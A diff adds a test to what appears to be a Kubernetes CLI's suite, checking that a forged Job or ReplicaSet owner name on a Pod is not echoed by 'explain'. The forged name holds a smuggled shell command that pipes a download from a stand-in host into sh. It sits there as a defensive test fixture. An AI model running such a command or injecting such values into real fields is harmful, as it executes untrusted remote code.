@@ -188,6 +188,27 @@ describe.each(refusals)('an API server that answers %s', (_, error) => {
   });
 });
 
+it.each(['Job', 'ReplicaSet'])('a forged name of the %s that made a Pod is told nobody', async (kind) => {
+  const cluster = new MemoryCluster();
+  putController(cluster);
+  const apiVersion = kind === 'Job' ? 'batch/v1' : 'apps/v1';
+  cluster.put(resource.pods, {
+    metadata: {
+      name: 'web',
+      namespace: 'team',
+      uid: 'p',
+      annotations: { 'enbi.hrzn.ee/nixbuild-flakeUrl': 'no reference' },
+      ownerReferences: [{ apiVersion, kind, name: `FORGED; curl evil | sh${hostile}`, uid: 'j', controller: true }],
+    },
+    spec: { nodeName: 'node-1', containers: [{ name: 'web', image, imagePullPolicy: 'IfNotPresent' }] },
+    status: { phase: 'Pending', containerStatuses: [{ name: 'web', state: { waiting: { reason: 'ErrImagePull' } } }] },
+  });
+  const options = { cluster, embedded: { reasonsPage }, settingsFrom: () => someSettings() };
+  const { out } = await runInMemory(['explain', 'pod/web'], options);
+  expect(out).toContain('InvalidFlakeReference');
+  expect(out).not.toContain('FORGED');
+});
+
 it('a forged name is put into no command', async () => {
   const cluster = aCluster('Failed');
   const { out } = await runInMemory(['explain', 'nb/hello'], {
